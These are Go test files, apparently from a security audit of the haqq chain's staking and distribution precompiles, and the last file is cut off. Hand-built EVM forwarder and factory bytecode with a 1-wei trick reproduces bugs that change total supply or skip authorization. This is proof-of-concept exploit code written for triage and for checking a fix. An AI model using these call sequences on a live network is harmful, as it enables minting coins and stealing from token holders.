	initCode := append(append([]byte{0x73}, b.Bytes()...), 0xff)

	chainID := suite.app.EvmKeeper.ChainID()
	tx := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  chainID,
		Nonce:    nonce,
		GasLimit: 200_000,
		GasPrice: big.NewInt(0),
		Input:    initCode,
	})
	tx.From = suite.address.Hex()
	suite.Require().NoError(tx.Sign(ethtypes.LatestSignerForChainID(chainID), suite.signer))

	rsp, err := suite.app.EvmKeeper.EthereumTx(sdk.WrapSDKContext(suite.ctx), tx)
	suite.Require().NoError(err)
	suite.Require().Empty(rsp.VmError)

	supplyAfter := bank.GetSupply(suite.ctx, denom).Amount
	suite.T().Logf("H: %s -> %s", five, bal(h))
	suite.T().Logf("B: 0 -> %s", bal(b))
	suite.T().Logf("total supply: %s -> %s (delta %s)", supplyBefore, supplyAfter, supplyAfter.Sub(supplyBefore))

	suite.Require().Equal(five.String(), bal(b).String(), "the beneficiary received the contract's balance")
	suite.Require().Equal("0", bal(h).String(), "the self-destructed contract paid its whole balance to the beneficiary and keeps nothing")
	suite.Require().Equal(supplyBefore.String(), supplyAfter.String(), "an Ethereum transaction must not change the total supply of the native coin")
}

// TestZZHuntCreate2AtFundedAddressTwice: the same with a CREATE2 factory, twice. H ends each round as it
// started (coins in the bank, no auth account, no code, nonce 0), so the factory can deploy the same init code
// at H again: every round pays H's 5 ISLM to the beneficiary once more.
//
// Property (C02): after the first round H is empty; a second round has nothing to pay; the supply never changes.
func (suite *KeeperTestSuite) TestZZHuntCreate2AtFundedAddressTwice() {
	five := sdkmath.NewIntWithDecimal(5, 18)
	b := common.HexToAddress("0x00000000000000000000000000000000000B0B0B")

	// init code of the short-lived contract: PUSH20 <B> SELFDESTRUCT
	initCode := append(append([]byte{0x73}, b.Bytes()...), 0xff)

	// factory runtime: CALLDATACOPY(0,0,CALLDATASIZE); CREATE2(value 0, offset 0, size CALLDATASIZE, salt 0); STOP
	factoryRuntime := []byte{0x36, 0x60, 0x00, 0x60, 0x00, 0x37, 0x60, 0x00, 0x36, 0x60, 0x00, 0x60, 0x00, 0xf5, 0x00}
	factoryInit := append([]byte{0x60, byte(len(factoryRuntime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}, factoryRuntime...)

	factory := crypto.CreateAddress(suite.address, 0)
	h := crypto.CreateAddress2(factory, [32]byte{}, crypto.Keccak256(initCode))

	suite.zzSetupWithOrphanBalance(h, five)

	bank := suite.app.BankKeeper
	denom := utils.BaseDenom
	bal := func(a common.Address) sdkmath.Int {
		return bank.GetBalance(suite.ctx, a.Bytes(), denom).Amount
	}
	chainID := suite.app.EvmKeeper.ChainID()
	send := func(nonce uint64, to *common.Address, data []byte) {
		tx := evmtypes.NewTx(&evmtypes.EvmTxArgs{
			ChainID:  chainID,
			Nonce:    nonce,
			To:       to,
			GasLimit: 300_000,
			GasPrice: big.NewInt(0),
			Input:    data,
		})
		tx.From = suite.address.Hex()
		suite.Require().NoError(tx.Sign(ethtypes.LatestSignerForChainID(chainID), suite.signer))
		rsp, err := suite.app.EvmKeeper.EthereumTx(sdk.WrapSDKContext(suite.ctx), tx)
		suite.Require().NoError(err)
		suite.Require().Empty(rsp.VmError)
		// the ante handler is not part of this test: advance the sender's nonce as it would
		acc := suite.app.AccountKeeper.GetAccount(suite.ctx, suite.address.Bytes())
		suite.Require().NoError(acc.SetSequence(nonce + 1))
		suite.app.AccountKeeper.SetAccount(suite.ctx, acc)
	}

	send(0, nil, factoryInit)
	suite.Require().Equal(factoryRuntime, suite.app.EvmKeeper.GetCode(suite.ctx, common.BytesToHash(
		suite.app.EvmKeeper.GetAccountWithoutBalance(suite.ctx, factory).CodeHash)), "factory deployed")

	suite.Require().Nil(suite.app.AccountKeeper.GetAccount(suite.ctx, h.Bytes()), "H must not have an auth account")
	supply0 := bank.GetSupply(suite.ctx, denom).Amount
	suite.T().Logf("start  : H=%s B=%s supply=%s", bal(h), bal(b), supply0)

	send(1, &factory, initCode)
	supply1 := bank.GetSupply(suite.ctx, denom).Amount
	suite.T().Logf("round 1: H=%s B=%s supply=%s", bal(h), bal(b), supply1)

	send(2, &factory, initCode)
	supply2 := bank.GetSupply(suite.ctx, denom).Amount
	suite.T().Logf("round 2: H=%s B=%s supply=%s", bal(h), bal(b), supply2)

	suite.Require().Equal(supply0.String(), supply1.String(), "round 1 must not change the total supply")
	suite.Require().Equal(supply0.String(), supply2.String(), "round 2 must not change the total supply")
	suite.Require().Equal(five.String(), bal(b).String(), "the beneficiary can receive H's 5 ISLM only once")
	suite.Require().Equal("0", bal(h).String())
}
