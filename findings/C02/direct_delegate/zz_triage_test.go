package staking_test

// Throw-away triage tests for C02: stale StateDB balance overwrites the bank
// balance of the tx origin when a stateful precompile is reached THROUGH an
// intermediate contract that received 1 wei from the origin.

import (
	"bytes"
	"math/big"
	"os"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/precompiles/authorization"
	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	stakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
)

// zzExpectCreateValidatorRejected is set (ZZ_FIXED=1) when the candidate fix for createValidator is applied.
var zzExpectCreateValidatorRejected = os.Getenv("ZZ_FIXED") == "1"

// zzForwarderInit returns the init code of a contract that forwards its calldata
// to the precompile at address `target` (e.g. 0x0800) and reverts iff the inner call failed.
func zzForwarderInit(target uint16) (initCode, runtime []byte) {
	rt := []byte{
		0x36,       // CALLDATASIZE
		0x60, 0x00, // PUSH1 0
		0x60, 0x00, // PUSH1 0
		0x37,       // CALLDATACOPY(0,0,size)
		0x60, 0x00, // retSize
		0x60, 0x00, // retOffset
		0x36,       // argsSize
		0x60, 0x00, // argsOffset
		0x60, 0x00, // value
		0x61, byte(target >> 8), byte(target), // PUSH2 target
		0x5a,       // GAS
		0xf1,       // CALL
		0x15,       // ISZERO
		0x60, 0x00, // PUSH1 dest (patched)
		0x57,       // JUMPI
		0x00,       // STOP
		0x5b,       // JUMPDEST
		0x60, 0x00, // PUSH1 0
		0x60, 0x00, // PUSH1 0
		0xfd, // REVERT
	}
	dest := bytes.LastIndexByte(rt, 0x5b)
	rt[22] = byte(dest)
	init := []byte{0x60, byte(len(rt)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(init, rt...), rt
}

type zzSnap struct {
	supply, origin, feeColl, bonded, notBonded, distr, fwd math.Int
}

func (s *PrecompileTestSuite) zzSnapshot(fwd common.Address) zzSnap {
	bal := func(a sdk.AccAddress) math.Int { return s.app.BankKeeper.GetBalance(s.ctx, a, s.bondDenom).Amount }
	return zzSnap{
		supply:    s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount,
		origin:    bal(s.address.Bytes()),
		feeColl:   bal(authtypes.NewModuleAddress(authtypes.FeeCollectorName)),
		bonded:    bal(authtypes.NewModuleAddress(stakingtypes.BondedPoolName)),
		notBonded: bal(authtypes.NewModuleAddress(stakingtypes.NotBondedPoolName)),
		distr:     bal(authtypes.NewModuleAddress(distrtypes.ModuleName)),
		fwd:       bal(fwd.Bytes()),
	}
}

// zzReport logs the before/after numbers and returns (supplyDelta, originDeltaExclGasAndValue).
func (s *PrecompileTestSuite) zzReport(name string, b, a zzSnap, value int64) (math.Int, math.Int) {
	fee := a.feeColl.Sub(b.feeColl)
	supplyDelta := a.supply.Sub(b.supply)
	// origin delta with the gas fee and the attached value added back
	originDelta := a.origin.Add(fee).Add(math.NewInt(value)).Sub(b.origin)
	s.T().Logf("[%s] supply before=%s after=%s delta=%s", name, b.supply, a.supply, supplyDelta)
	s.T().Logf("[%s] origin before=%s after=%s fee=%s value=%d => delta excl. gas+value=%s", name, b.origin, a.origin, fee, value, originDelta)
	s.T().Logf("[%s] bondedPool delta=%s notBondedPool delta=%s distrModule delta=%s forwarder delta=%s", name,
		a.bonded.Sub(b.bonded), a.notBonded.Sub(b.notBonded), a.distr.Sub(b.distr), a.fwd.Sub(b.fwd))
	return supplyDelta, originDelta
}

func (s *PrecompileTestSuite) zzNextBlock() {
	var err error
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)
}

// zzDeployForwarder commits a block (so that s.ctx is the live deliver-state ctx) and deploys the forwarder.
func (s *PrecompileTestSuite) zzDeployForwarder(target uint16) common.Address {
	s.zzNextBlock()
	initCode, rt := zzForwarderInit(target)
	fwd, err := s.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: initCode})
	s.Require().NoError(err)
	acct := s.app.EvmKeeper.GetAccountWithoutBalance(s.ctx, fwd)
	s.Require().NotNil(acct)
	s.Require().Equal(rt, s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(acct.CodeHash)), "deployed runtime code mismatch")
	return fwd
}

// zzApprove lets the origin grant the forwarder a staking authorization by calling the precompile directly as EOA.
func (s *PrecompileTestSuite) zzApprove(grantee common.Address, amount *big.Int, msgTypes ...string) {
	_, _, err := contracts.Call(s.ctx, s.app, contracts.CallArgs{
		ContractAddr: s.precompile.Address(),
		ContractABI:  s.precompile.ABI,
		PrivKey:      s.privKey,
		MethodName:   authorization.ApproveMethod,
		Args:         []interface{}{grantee, amount, msgTypes},
	})
	s.Require().NoError(err, "approve failed")
}

func (s *PrecompileTestSuite) zzCallFwd(fwd common.Address, value int64, method string, args ...interface{}) error {
	var amt *big.Int
	if value != 0 {
		amt = big.NewInt(value)
	}
	_, _, err := contracts.Call(s.ctx, s.app, contracts.CallArgs{
		ContractAddr: fwd,
		ContractABI:  s.precompile.ABI,
		PrivKey:      s.privKey,
		MethodName:   method,
		Args:         args,
		Amount:       amt,
		GasLimit:     2_000_000,
	})
	return err
}

// zzAllocateRewards funds the distribution module and allocates `amt` as rewards to the validator.
func (s *PrecompileTestSuite) zzAllocateRewards(valAddr sdk.ValAddress, amt math.Int) {
	err := haqqtestutil.FundModuleAccount(s.ctx, s.app.BankKeeper, distrtypes.ModuleName, sdk.NewCoins(sdk.NewCoin(s.bondDenom, amt)))
	s.Require().NoError(err)
	val := s.app.StakingKeeper.Validator(s.ctx, valAddr)
	s.Require().NotNil(val)
	s.app.DistrKeeper.AllocateTokensToValidator(s.ctx, val, sdk.NewDecCoins(sdk.NewDecCoin(s.bondDenom, amt)))
}

func (s *PrecompileTestSuite) zzRewards(valAddr sdk.ValAddress) math.Int {
	cctx, _ := s.ctx.CacheContext()
	val := s.app.StakingKeeper.Validator(cctx, valAddr)
	del := s.app.StakingKeeper.Delegation(cctx, s.address.Bytes(), valAddr)
	if del == nil {
		return math.ZeroInt()
	}
	endingPeriod := s.app.DistrKeeper.IncrementValidatorPeriod(cctx, val)
	r := s.app.DistrKeeper.CalculateDelegationRewards(cctx, val, del, endingPeriod)
	return r.AmountOf(s.bondDenom).TruncateInt()
}

func (s *PrecompileTestSuite) zzShares(valAddr sdk.ValAddress) math.LegacyDec {
	del, found := s.app.StakingKeeper.GetDelegation(s.ctx, s.address.Bytes(), valAddr)
	if !found {
		return math.LegacyZeroDec()
	}
	return del.Shares
}

// ---------------------------------------------------------------------------
// Item 1: delegate
// ---------------------------------------------------------------------------

func (s *PrecompileTestSuite) TestZZ01DelegateViaForwarder() {
	fwd := s.zzDeployForwarder(0x0800)
	valAddr := s.validators[0].GetOperator()
	amount := big.NewInt(1e18)

	// negative control: no grant => forwarder call must revert
	err := s.zzCallFwd(fwd, 1, staking.DelegateMethod, s.address, valAddr.String(), amount)
	s.Require().Error(err, "delegate via forwarder without grant must fail")
	s.T().Logf("[delegate/no-grant] rejected: %v", err)

	s.zzApprove(fwd, big.NewInt(5e18), staking.DelegateMsg)

	// control: 0 wei attached => origin not journal-dirty
	sharesB := s.zzShares(valAddr)
	b := s.zzSnapshot(fwd)
	s.Require().NoError(s.zzCallFwd(fwd, 0, staking.DelegateMethod, s.address, valAddr.String(), amount))
	a := s.zzSnapshot(fwd)
	sd, od := s.zzReport("delegate/0wei-control", b, a, 0)
	s.T().Logf("[delegate/0wei-control] shares before=%s after=%s", sharesB, s.zzShares(valAddr))
	s.Require().True(sd.IsZero(), "control: supply must not change")
	s.Require().Equal(math.NewIntFromBigInt(amount).Neg().String(), od.String(), "control: origin debited by amount")

	// attack: 1 wei attached
	sharesB = s.zzShares(valAddr)
	b = s.zzSnapshot(fwd)
	s.Require().NoError(s.zzCallFwd(fwd, 1, staking.DelegateMethod, s.address, valAddr.String(), amount))
	a = s.zzSnapshot(fwd)
	sd, od = s.zzReport("delegate/1wei", b, a, 1)
	sharesA := s.zzShares(valAddr)
	s.T().Logf("[delegate/1wei] shares before=%s after=%s", sharesB, sharesA)

	// genesis validators have 1 share per 1e18 tokens
	s.Require().Equal(math.LegacyOneDec().String(), sharesA.Sub(sharesB).String(), "delegation must have increased by 1 share (=1e18 tokens)")
	s.Require().Equal(math.NewIntFromBigInt(amount).String(), sd.String(), "HYPOTHESIS: supply increased by the delegated amount")
	s.Require().True(od.IsZero(), "HYPOTHESIS: origin not debited (excl. gas and value)")
}

// ---------------------------------------------------------------------------
// Item 2: undelegate (pending rewards are auto-withdrawn to the origin)
// ---------------------------------------------------------------------------

func (s *PrecompileTestSuite) TestZZ02UndelegateViaForwarder() {
	fwd := s.zzDeployForwarder(0x0800)
	valAddr := s.validators[0].GetOperator()
	s.zzApprove(fwd, big.NewInt(5e18), staking.UndelegateMsg)

	rewardAmt := math.NewInt(3e17)
	s.zzAllocateRewards(valAddr, rewardAmt)
	rewardsB := s.zzRewards(valAddr)
	s.T().Logf("[undelegate] pending rewards before=%s", rewardsB)
	s.Require().True(rewardsB.IsPositive())

	sharesB := s.zzShares(valAddr)
	b := s.zzSnapshot(fwd)
	s.Require().NoError(s.zzCallFwd(fwd, 1, staking.UndelegateMethod, s.address, valAddr.String(), big.NewInt(5e17)))
	a := s.zzSnapshot(fwd)
	sd, od := s.zzReport("undelegate/1wei", b, a, 1)
	s.T().Logf("[undelegate/1wei] shares before=%s after=%s; pending rewards after=%s", sharesB, s.zzShares(valAddr), s.zzRewards(valAddr))

	s.Require().Equal(rewardsB.Neg().String(), a.distr.Sub(b.distr).String(), "rewards left the distribution module")
	s.Require().True(s.zzRewards(valAddr).IsZero(), "rewards were withdrawn")
	s.Require().Equal(rewardsB.Neg().String(), sd.String(), "HYPOTHESIS: supply decreased by the auto-withdrawn rewards (burned)")
	s.Require().True(od.IsZero(), "HYPOTHESIS: origin did not receive its rewards")
}

// Item 2 control: same call with 0 wei attached (origin not journal-dirty) => rewards reach the origin
func (s *PrecompileTestSuite) TestZZ02bUndelegateControl() {
	fwd := s.zzDeployForwarder(0x0800)
	valAddr := s.validators[0].GetOperator()
	s.zzApprove(fwd, big.NewInt(5e18), staking.UndelegateMsg)
	s.zzAllocateRewards(valAddr, math.NewInt(3e17))
	rewardsB := s.zzRewards(valAddr)
	s.Require().True(rewardsB.IsPositive())

	b := s.zzSnapshot(fwd)
	s.Require().NoError(s.zzCallFwd(fwd, 0, staking.UndelegateMethod, s.address, valAddr.String(), big.NewInt(5e17)))
	a := s.zzSnapshot(fwd)
	sd, od := s.zzReport("undelegate/0wei-control", b, a, 0)
	s.Require().True(sd.IsZero(), "control: supply unchanged")
	s.Require().Equal(rewardsB.String(), od.String(), "control: origin received its rewards")
}

// ---------------------------------------------------------------------------
// Item 3: redelegate
// ---------------------------------------------------------------------------

func (s *PrecompileTestSuite) TestZZ03RedelegateViaForwarder() {
	fwd := s.zzDeployForwarder(0x0800)
	src := s.validators[0].GetOperator()
	dst := s.validators[1].GetOperator()
	s.zzApprove(fwd, big.NewInt(5e18), staking.RedelegateMsg)

	s.zzAllocateRewards(src, math.NewInt(3e17))
	s.zzAllocateRewards(dst, math.NewInt(2e17))
	rewardsSrc, rewardsDst := s.zzRewards(src), s.zzRewards(dst)
	total := rewardsSrc.Add(rewardsDst)
	s.T().Logf("[redelegate] pending rewards src=%s dst=%s", rewardsSrc, rewardsDst)
	s.Require().True(total.IsPositive())

	b := s.zzSnapshot(fwd)
	s.Require().NoError(s.zzCallFwd(fwd, 1, staking.RedelegateMethod, s.address, src.String(), dst.String(), big.NewInt(5e17)))
	a := s.zzSnapshot(fwd)
	sd, od := s.zzReport("redelegate/1wei", b, a, 1)
	s.T().Logf("[redelegate/1wei] shares src=%s dst=%s; pending rewards after src=%s dst=%s", s.zzShares(src), s.zzShares(dst), s.zzRewards(src), s.zzRewards(dst))

	s.Require().Equal(total.Neg().String(), a.distr.Sub(b.distr).String(), "rewards left the distribution module")
	s.Require().Equal(total.Neg().String(), sd.String(), "HYPOTHESIS: supply decreased by the auto-withdrawn rewards (burned)")
	s.Require().True(od.IsZero(), "HYPOTHESIS: origin did not receive its rewards")
}

// ---------------------------------------------------------------------------
// Item 4: cancelUnbondingDelegation
// ---------------------------------------------------------------------------

func (s *PrecompileTestSuite) TestZZ04CancelUnbondingViaForwarder() {
	fwd := s.zzDeployForwarder(0x0800)
	valAddr := s.validators[0].GetOperator()
	s.zzApprove(fwd, big.NewInt(5e18), staking.CancelUnbondingDelegationMsg)

	// create an unbonding delegation entry directly with the msg server (set-up, not under test)
	msgSrv := stakingkeeper.NewMsgServerImpl(&s.app.StakingKeeper)
	_, err := msgSrv.Undelegate(s.ctx, &stakingtypes.MsgUndelegate{
		DelegatorAddress: sdk.AccAddress(s.address.Bytes()).String(),
		ValidatorAddress: valAddr.String(),
		Amount:           sdk.NewCoin(s.bondDenom, math.NewInt(5e17)),
	})
	s.Require().NoError(err)
	creationHeight := s.ctx.BlockHeight()
	// rewards only accrue for delegations whose starting height is lower than the current height
	s.zzNextBlock()

	s.zzAllocateRewards(valAddr, math.NewInt(3e17))
	rewardsB := s.zzRewards(valAddr)
	s.T().Logf("[cancelUnbonding] pending rewards before=%s", rewardsB)
	s.Require().True(rewardsB.IsPositive())

	sharesB := s.zzShares(valAddr)
	b := s.zzSnapshot(fwd)
	s.Require().NoError(s.zzCallFwd(fwd, 1, staking.CancelUnbondingDelegationMethod, s.address, valAddr.String(), big.NewInt(5e17), big.NewInt(creationHeight)))
	a := s.zzSnapshot(fwd)
	sd, od := s.zzReport("cancelUnbonding/1wei", b, a, 1)
	s.T().Logf("[cancelUnbonding/1wei] shares before=%s after=%s; pending rewards after=%s", sharesB, s.zzShares(valAddr), s.zzRewards(valAddr))

	s.Require().Equal(rewardsB.Neg().String(), a.distr.Sub(b.distr).String(), "rewards left the distribution module")
	s.Require().Equal(rewardsB.Neg().String(), sd.String(), "HYPOTHESIS: supply decreased by the auto-withdrawn rewards (burned)")
	s.Require().True(od.IsZero(), "HYPOTHESIS: origin did not receive its rewards")
}

// ---------------------------------------------------------------------------
// Item 5: createValidator, NO grant at all
// ---------------------------------------------------------------------------

func (s *PrecompileTestSuite) zzCreateValidatorArgs(value *big.Int) []interface{} {
	return []interface{}{
		staking.Description{Moniker: "zz"},
		staking.Commission{
			Rate:          math.LegacyOneDec().BigInt(),
			MaxRate:       math.LegacyOneDec().BigInt(),
			MaxChangeRate: math.LegacyOneDec().BigInt(),
		},
		big.NewInt(1),
		s.address,
		sdk.ValAddress(s.address.Bytes()).String(),
		"nfJ0axJC9dhta1MAE1EBFaVdxxkYzxYrBaHuJVjG//M=",
		value,
	}
}

func (s *PrecompileTestSuite) TestZZ05CreateValidatorViaForwarder() {
	fwd := s.zzDeployForwarder(0x0800)
	value := big.NewInt(1205000000000000000)

	// no authz grant of any kind from the origin to the forwarder
	for _, t := range []stakingtypes.AuthorizationType{staking.DelegateAuthz, staking.UndelegateAuthz, staking.RedelegateAuthz, staking.CancelUnbondingDelegationAuthz} {
		auth, _ := s.CheckAuthorization(t, fwd, s.address)
		s.Require().Nil(auth)
	}
	s.Require().Nil(s.app.StakingKeeper.Validator(s.ctx, s.address.Bytes()))

	b := s.zzSnapshot(fwd)
	err := s.zzCallFwd(fwd, 1, staking.CreateValidatorMethod, s.zzCreateValidatorArgs(value)...)
	a := s.zzSnapshot(fwd)
	sd, od := s.zzReport("createValidator/1wei", b, a, 1)
	val := s.app.StakingKeeper.Validator(s.ctx, s.address.Bytes())

	if zzExpectCreateValidatorRejected {
		// behaviour with the candidate fix applied
		s.Require().Error(err, "FIX: createValidator through a contract must be rejected")
		s.T().Logf("[createValidator/1wei] rejected: %v", err)
		s.Require().Nil(val, "FIX: no validator created")
		s.Require().True(sd.IsZero(), "FIX: nothing minted")
		return
	}

	s.Require().NoError(err, "DEFECT A: createValidator through a contract succeeds without any authorization")
	s.Require().NotNil(val, "validator was created")
	s.T().Logf("[createValidator/1wei] validator tokens=%s shares(self-delegation)=%s", val.GetTokens(), s.zzShares(s.address.Bytes()))
	s.Require().Equal(math.NewIntFromBigInt(value).String(), val.GetTokens().String())
	s.Require().Equal(math.NewIntFromBigInt(value).String(), sd.String(), "DEFECT B: supply increased by the self-delegation")
	s.Require().True(od.IsZero(), "DEFECT B: origin not debited (excl. gas and value)")
}

// Item 5 control: createValidator called DIRECTLY by the EOA (caller == origin) keeps working
// (before and after the candidate fix) and neither mints nor leaves the origin un-debited.
func (s *PrecompileTestSuite) TestZZ05bCreateValidatorDirect() {
	s.zzNextBlock()
	value := big.NewInt(1205000000000000000)
	none := common.Address{}

	b := s.zzSnapshot(none)
	_, _, err := contracts.Call(s.ctx, s.app, contracts.CallArgs{
		ContractAddr: s.precompile.Address(),
		ContractABI:  s.precompile.ABI,
		PrivKey:      s.privKey,
		MethodName:   staking.CreateValidatorMethod,
		Args:         s.zzCreateValidatorArgs(value),
		GasLimit:     2_000_000,
	})
	s.Require().NoError(err, "direct createValidator must succeed")
	a := s.zzSnapshot(none)
	sd, od := s.zzReport("createValidator/direct", b, a, 0)
	val := s.app.StakingKeeper.Validator(s.ctx, s.address.Bytes())
	s.Require().NotNil(val)
	s.Require().True(sd.IsZero(), "direct: supply unchanged")
	s.Require().Equal(math.NewIntFromBigInt(value).Neg().String(), od.String(), "direct: origin debited by the self-delegation")
}

// Direct delegate by the EOA (caller == origin) while rewards are pending for the existing delegation.
func (s *PrecompileTestSuite) TestZZ10DirectDelegateWithPendingRewards() {
	s.zzNextBlock()
	valAddr := s.validators[0].GetOperator()
	s.zzAllocateRewards(valAddr, math.NewInt(3e17))
	rewardsB := s.zzRewards(valAddr)
	s.Require().True(rewardsB.IsPositive())
	none := common.Address{}
	b := s.zzSnapshot(none)
	_, _, err := contracts.Call(s.ctx, s.app, contracts.CallArgs{
		ContractAddr: s.precompile.Address(),
		ContractABI:  s.precompile.ABI,
		PrivKey:      s.privKey,
		MethodName:   staking.DelegateMethod,
		Args:         []interface{}{s.address, valAddr.String(), big.NewInt(1e18)},
		GasLimit:     2_000_000,
	})
	s.Require().NoError(err)
	a := s.zzSnapshot(none)
	sd, od := s.zzReport("delegate/direct+rewards", b, a, 0)
	s.T().Logf("pending rewards before: %s", rewardsB)
	s.Require().True(sd.IsZero(), "direct delegate with pending rewards: supply must be unchanged, delta=%s", sd)
	s.Require().Equal(rewardsB.Sub(math.NewInt(1e18)).String(), od.String(), "origin: -amount +rewards")
}
