package distribution_test

import (
	"math/big"

	"cosmossdk.io/math"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/precompiles/distribution"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzPoolRuntime is a minimal "staking pool": it first does its own bookkeeping (SSTORE slot0 = 1) and then
// forwards its calldata to the distribution precompile 0x…0801 with value 0; it reverts iff that call failed.
//
//	6001 6000 55                          sstore(0, 1)
//	36 6000 6000 37                       calldatacopy(0, 0, calldatasize)
//	6000 6000 36 6000 6000 610801 5a f1   call(gas, 0x801, 0, 0, calldatasize, 0, 0)
//	15 601e 57 00                         if failed jump 0x1e ; stop
//	5b 6000 6000 fd                       revert(0,0)
var zzPoolRuntime = common.FromHex("60016000553660006000376000600036600060006108015af115601e57005b60006000fd")

func zzInitCode(runtime []byte) []byte {
	// PUSH1 len DUP1 PUSH1 0x0b PUSH1 0 CODECOPY PUSH1 0 RETURN
	init := []byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(init, runtime...)
}

// Property C02: an Ethereum transaction never mints or burns the native coin, and every account ends with
// what it had plus what it received.
//
// The delegator here is the calling contract itself (the tx signer owns nothing that is touched, no authz
// grant is involved): the contract claims ITS OWN staking rewards with
// distribution.claimRewards(address(this), n) after having written one of its storage slots.
func (s *PrecompileTestSuite) TestZZHuntContractDelegatorClaimRewards() {
	s.Require().Equal(36, len(zzPoolRuntime))

	pool, err := s.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: zzInitCode(zzPoolRuntime)})
	s.Require().NoError(err)
	s.NextBlock()
	s.Require().Equal(crypto.Keccak256(zzPoolRuntime), s.app.EvmKeeper.GetAccountWithoutBalance(s.ctx, pool).CodeHash, "pool contract deployed")

	// the pool contract delegates 1e18 to validator 0 and has outstanding rewards
	s.prepareStakingRewards(stakingRewards{Delegator: pool.Bytes(), Validator: s.validators[0], RewardAmt: math.NewInt(1e18)})

	// what the pool is entitled to right now (computed on a throw-away branch of the state)
	queryCtx, _ := s.ctx.CacheContext()
	expRewardsCoins, err := s.app.DistrKeeper.WithdrawDelegationRewards(queryCtx, pool.Bytes(), s.validators[0].GetOperator())
	s.Require().NoError(err)
	expRewards := expRewardsCoins.AmountOf(s.bondDenom)
	s.Require().True(expRewards.IsPositive(), "the pool has pending rewards")

	supplyBefore := s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount
	poolBefore := s.app.BankKeeper.GetBalance(s.ctx, pool.Bytes(), s.bondDenom).Amount
	distrBefore := s.app.BankKeeper.GetBalance(s.ctx, s.app.DistrKeeper.GetDistributionAccount(s.ctx).GetAddress(), s.bondDenom).Amount

	// any EOA pokes the pool: pool.sstore(0,1); distribution.claimRewards(pool, 10)   (value 0)
	_, ethRes, err := contracts.Call(s.ctx, s.app, contracts.CallArgs{
		ContractAddr: pool,
		ContractABI:  s.precompile.ABI,
		MethodName:   distribution.ClaimRewardsMethod,
		Args:         []interface{}{pool, uint32(10)},
		PrivKey:      s.privKey,
		GasPrice:     big.NewInt(1e9),
	})
	s.Require().NoError(err)
	s.Require().Empty(ethRes.VmError, "the transaction succeeded")

	supplyAfter := s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount
	poolAfter := s.app.BankKeeper.GetBalance(s.ctx, pool.Bytes(), s.bondDenom).Amount
	distrAfter := s.app.BankKeeper.GetBalance(s.ctx, s.app.DistrKeeper.GetDistributionAccount(s.ctx).GetAddress(), s.bondDenom).Amount

	// the rewards were really claimed: nothing is outstanding any more and the distribution module paid them out
	queryCtx, _ = s.ctx.CacheContext()
	left, err := s.app.DistrKeeper.WithdrawDelegationRewards(queryCtx, pool.Bytes(), s.validators[0].GetOperator())
	s.Require().NoError(err)
	s.Require().True(left.AmountOf(s.bondDenom).IsZero(), "rewards were withdrawn, left: %s", left)
	s.Require().Equal(expRewards.String(), distrBefore.Sub(distrAfter).String(), "the distribution module account paid the rewards")

	s.T().Logf("rewards=%s pool: %s -> %s supply: %s -> %s", expRewards, poolBefore, poolAfter, supplyBefore, supplyAfter)

	// ... so the pool must hold them, and no coin may have been destroyed
	s.Require().Equal(poolBefore.Add(expRewards).String(), poolAfter.String(),
		"pool balance after = before + claimed rewards (%s)", expRewards)
	s.Require().Equal(supplyBefore.String(), supplyAfter.String(),
		"an Ethereum transaction must not change the total supply of %s", s.bondDenom)

}
