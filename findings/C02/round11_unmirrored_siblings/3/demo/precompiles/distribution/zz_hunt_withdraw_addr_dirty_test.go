package distribution_test

import (
	"math/big"

	"cosmossdk.io/math"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/precompiles/distribution"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	testutiltx "github.com/haqq-network/haqq/testutil/tx"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzPayThenForwardRuntime builds a minimal pool contract that first pays 1 wei to its treasury and then forwards
// its calldata to the distribution precompile 0x…0801 with value 0; it reverts iff the precompile call failed.
//
//	6000 6000 6000 6000 6001 73<treasury> 5a f1 50   pop(call(gas, treasury, 1, 0, 0, 0, 0))
//	36 6000 6000 37                                   calldatacopy(0, 0, calldatasize)
//	6000 6000 36 6000 6000 610801 5a f1               call(gas, 0x801, 0, 0, calldatasize, 0, 0)
//	15 603b 57 00                                     if failed jump 0x3b ; stop
//	5b 6000 6000 fd                                   revert(0,0)
func zzPayThenForwardRuntime(treasury common.Address) []byte {
	code := common.FromHex("600060006000600060017300")
	code = append(code[:len(code)-1], treasury.Bytes()...)
	code = append(code, common.FromHex("5af150")...)
	code = append(code, common.FromHex("3660006000376000600036600060006108015af115603b57005b60006000fd")...)
	return code
}

func zzInit(runtime []byte) []byte {
	init := []byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
